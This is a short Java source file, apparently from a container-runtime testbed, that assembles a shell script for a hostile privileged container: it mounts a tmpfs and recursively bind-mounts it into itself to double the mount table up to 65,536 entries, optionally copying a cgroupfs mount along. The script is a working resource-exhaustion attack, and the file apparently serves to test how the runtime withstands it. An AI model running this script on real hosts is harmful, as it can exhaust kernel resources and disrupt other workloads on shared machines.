package dev.cgroupns.testbed.runc;

/**
 * The shell script a hostile container runs to fill its own mount table fast: a tmpfs at /bomb,
 * bound recursively into itself {@code doublings} times. Each copy is one system call and doubles
 * the table, so 16 doublings give 65,536 mounts in seconds, where one mount per command would take
 * minutes. The mount points stay distinct (/bomb/d3/d1/d0 and so on). A cgroupfs mount bound into
 * the tmpfs first is copied at every doubling too. Run it in the container's own mount namespace
 * with CAP_SYS_ADMIN, as a privileged pod has; /bomb must exist in its root filesystem.
 */
public final class MountTableBomb {
  private MountTableBomb() {}

  /**
   * @param cgroupMount a cgroupfs mount point of the container to copy along; null for none
   */
  public static String script(int doublings, String cgroupMount) {
    return "set -e; mount -t tmpfs -o size=64k,mode=755 bomb /bomb; i=0;"
        + " while [ $i -lt "
        + doublings
        + " ]; do mkdir /bomb/d$i; i=$((i+1)); done;"
        + (cgroupMount == null
            ? ""
            : " mkdir /bomb/cg; mount -o bind '" + cgroupMount + "' /bomb/cg;")
        + " i=0; while [ $i -lt "
        + doublings
        + " ]; do mount -o rbind /bomb /bomb/d$i; i=$((i+1)); done";
  }
}
